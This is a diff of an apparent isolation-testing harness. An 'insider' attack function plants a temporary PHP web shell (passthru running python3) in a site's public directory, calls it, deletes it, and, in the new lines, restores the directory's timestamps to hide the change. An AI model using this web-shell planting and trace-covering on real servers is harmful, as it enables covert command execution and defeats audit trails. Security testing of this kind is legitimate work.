@@ -65,7 +65,8 @@ for name, number in (("process_vm_readv", read), ("process_vm_writev", write)):
 @attack("sessions_apart", insider=True)
 def reach_into_the_web_server(insider: Insider) -> Finding:
     page = f"/reach-{secrets.token_hex(6)}.php"
-    path = f"{insider.site.root}/public{page}"
+    public = f"{insider.site.root}/public"
+    path, status = f"{public}{page}", os.stat(public)
     with open(path, "w", encoding="utf-8") as file:
         text = _REACH.replace("\\", "\\\\").replace("'", "\\'")
         file.write(f"<?php passthru('python3 -c ' . escapeshellarg('{text}') . ' 2>&1; echo done');")
@@ -74,6 +75,7 @@ def reach_into_the_web_server(insider: Insider) -> Finding:
         answer = here(insider).get(page)
     finally:
         os.unlink(path)
+        os.utime(public, ns=(status.st_atime_ns, status.st_mtime_ns))
     words = answer.body.decode(errors="replace").split()
     if words[-1:] != ["done"]:
         raise OSError(f"the page could not try: {answer.status} {answer.error} {' '.join(words)[:200]}")
